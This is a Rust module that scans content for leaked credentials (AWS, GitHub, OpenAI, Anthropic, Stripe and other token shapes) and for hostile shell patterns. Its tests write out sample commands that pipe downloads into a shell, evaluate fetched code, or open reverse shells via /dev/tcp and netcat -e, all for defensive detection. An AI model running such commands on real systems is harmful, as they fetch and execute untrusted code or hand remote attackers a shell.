//! What no resolution may bring in and no push may carry: keys and tokens of well-known shapes, and shell that runs what it fetches.
//!
//! The shapes are those that their makers document so that they can be found. None of them is ever quoted.

use std::sync::LazyLock;

use regex::bytes::Regex;

/// What was found, and in which line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Finding {
    /// In words.
    pub(crate) what: &'static str,
    /// From 1.
    pub(crate) line: usize,
    pub(super) matched: Vec<u8>,
}

impl Finding {
    /// Whether another finding is of the same text.
    pub(crate) fn is_same_text(&self, other: &Self) -> bool {
        self.matched == other.matched
    }
}

const SECRETS: [(&str, &str); 22] = [
    ("a private key", r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----"),
    ("an AWS access key", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
    ("an Anthropic key", r"\bsk-ant-[A-Za-z0-9_-]{20,}"),
    ("an Azure storage key", r"AccountKey=[A-Za-z0-9+/]{80,}={0,2}"),
    ("a DigitalOcean token", r"\bdo[opr]_v1_[a-f0-9]{64}\b"),
    ("a GitHub token", r"\bgh[pousr]_[A-Za-z0-9]{36,}"),
    ("a GitHub token", r"\bgithub_pat_[A-Za-z0-9_]{50,}"),
    ("a GitLab token", r"\bglpat-[A-Za-z0-9_-]{20,}"),
    ("a Google API key", r"\bAIza[A-Za-z0-9_-]{35}"),
    ("a Google OAuth secret", r"\bGOCSPX-[A-Za-z0-9_-]{28}"),
    ("a Hugging Face token", r"\bhf_[A-Za-z0-9]{34,}"),
    ("an npm token", r"\bnpm_[A-Za-z0-9]{36}\b"),
    ("an OpenAI key", r"\bsk-(?:proj|svcacct|admin)-[A-Za-z0-9_-]{40,}"),
    ("an OpenAI key", r"\bsk-[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20}\b"),
    ("a PyPI token", r"\bpypi-AgEIcHlwaS[A-Za-z0-9_-]{50,}"),
    ("a SendGrid key", r"\bSG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}"),
    ("a Shopify token", r"\bshp(?:at|ca|pa|ss)_[a-fA-F0-9]{32}\b"),
    ("a Slack token", r"\bxox[abeoprs]-[A-Za-z0-9-]{10,}"),
    ("a Slack webhook", r"hooks\.slack\.com/services/T[A-Z0-9]{8,}/B[A-Z0-9]{8,}/[A-Za-z0-9]{20,}"),
    ("a Stripe key", r"\b[rs]k_live_[A-Za-z0-9]{20,}"),
    ("a Telegram token", r"\b[0-9]{8,10}:AA[A-Za-z0-9_-]{33}\b"),
    ("a Vault token", r"\bhv[sb]\.[A-Za-z0-9_-]{24,}"),
];

const DANGERS: [(&str, &str); 9] = [
    ("a download that a shell runs", r"\b(?:curl|wget|fetch)\b[^\n|;&]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:env\s+)?(?:ba|z|da|k)?sh\b"),
    (
        "a download that an interpreter runs",
        r"\b(?:curl|wget)\b[^\n|;&]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:python[0-9.]*|perl|ruby|node|php)\b",
    ),
    ("a download that a shell runs", r#"\b(?:ba|z|da|k)?sh\s+(?:-c\s+)?["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#),
    ("a download that is evaluated", r#"\b(?:eval|source)\s+["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#),
    (
        "a download that is evaluated",
        r"\b(?:eval|exec)\s*\(\s*(?:await\s+)?(?:\(?\s*await\s+)?(?:requests\.|urllib|urlopen|httpx\.|fetch\s*\(|axios)",
    ),
    (
        "a download that is evaluated",
        r"(?i)\b(?:iex|invoke-expression)\b[^\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
    ),
    ("hidden text that a shell runs", r"\bbase64\s+(?:-d|-D|--decode)\b[^\n|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b"),
    ("a shell over the network", r"/dev/(?:tcp|udp)/[\w.$-]+/[\w$]+"),
    ("a shell over the network", r"\b(?:nc|ncat|netcat)\b[^\n|;&]*\s-(?:e|c)\s*\S*sh\b"),
];

/// The patterns of a list; the tests see to it that each of them can be read.
fn compiled(list: &[(&'static str, &str)]) -> Vec<(&'static str, Regex)> {
    list.iter().filter_map(|(what, pattern)| Some((*what, Regex::new(pattern).ok()?))).collect()
}

static SECRET_PATTERNS: LazyLock<Vec<(&str, Regex)>> = LazyLock::new(|| compiled(&SECRETS));
static DANGER_PATTERNS: LazyLock<Vec<(&str, Regex)>> = LazyLock::new(|| compiled(&DANGERS));

/// Keys and tokens.
pub(crate) fn secrets_in(content: &[u8]) -> Vec<Finding> {
    let mut found = find(content, &SECRET_PATTERNS);
    // Amazon's own example, which documents and tests are full of.
    found.retain(|finding| !finding.matched.ends_with(b"EXAMPLE"));
    found
}

/// Shell and code that runs what it has fetched or hides what it does.
pub(super) fn dangers_in(content: &[u8]) -> Vec<Finding> {
    find(content, &DANGER_PATTERNS)
}

fn find(content: &[u8], patterns: &[(&'static str, Regex)]) -> Vec<Finding> {
    let all = patterns.iter().flat_map(|(what, pattern)| pattern.find_iter(content).map(move |found| (*what, found)));
    let line = |at: usize| content[..at].iter().filter(|byte| **byte == b'\n').count() + 1;
    all.map(|(what, found)| Finding { what, line: line(found.start()), matched: found.as_bytes().to_vec() }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_can_be_read() {
        assert_eq!((SECRET_PATTERNS.len(), DANGER_PATTERNS.len()), (SECRETS.len(), DANGERS.len()));
    }

    #[test]
    fn keys_and_tokens_are_found_and_words_about_them_are_not() {
        // Written in halves, so that this file is none of them.
        for (kind, halves) in [
            ("a private key", ["-----BEGIN OPENSSH ", "PRIVATE KEY-----"]),
            ("a private key", ["-----BEGIN PRIVATE", " KEY-----"]),
            ("an AWS access key", ["AKIA", "ABCDEFGHIJKLMNOP"]),
            ("a GitHub token", ["ghp_", &"a1".repeat(18)]),
            ("an Anthropic key", ["sk-ant-", "api03-abcdefghijklmnop"]),
            ("a Slack token", ["xoxb-", "1234567890-abc"]),
            ("a Stripe key", ["sk_live_", &"x".repeat(24)]),
            ("a Google API key", ["AIza", &"y".repeat(35)]),
            ("an npm token", ["npm_", &"z".repeat(36)]),
        ] {
            let found = secrets_in(format!("x\nkey = \"{}{}\"\n", halves[0], halves[1]).as_bytes());
            assert_eq!(found.iter().map(|found| (found.what, found.line)).collect::<Vec<_>>(), [(kind, 2)]);
        }
        for text in ["AKIA", "ghp_short", "AKIAIOSFODNN7EXAMPLE", "-----BEGIN PUBLIC KEY-----", "task-antwerp-x"] {
            assert_eq!(secrets_in(text.as_bytes()), [], "{text}");
        }
    }

    #[test]
    fn what_runs_what_it_fetched_is_found() {
        for text in [
            "curl -fsSL https://x.sh | sh",
            "wget -qO- x | sudo bash -s",
            "curl x | python3 -",
            "sh -c \"$(curl x)\"",
            "bash <(curl x)",
            "eval \"$(wget -O- x)\"",
            "eval(requests.get(u).text)",
            "exec(urllib.request.urlopen(u).read())",
            "eval(await fetch(u))",
            "iex (iwr http://x)",
            "echo aGk= | base64 -d | sh",
            "cat </dev/tcp/1.2.3.4/99",
            "nc 1.2.3.4 99 -e /bin/sh",
        ] {
            assert_eq!(dangers_in(text.as_bytes()).len(), 1, "{text}");
        }
        for text in ["curl x | jq .", "curl x >y; sh y.sh", "evaluate(x)", "fetch(url).then(show)", "base64 -d x >y"] {
            assert_eq!(dangers_in(text.as_bytes()), [], "{text}");
        }
    }
}
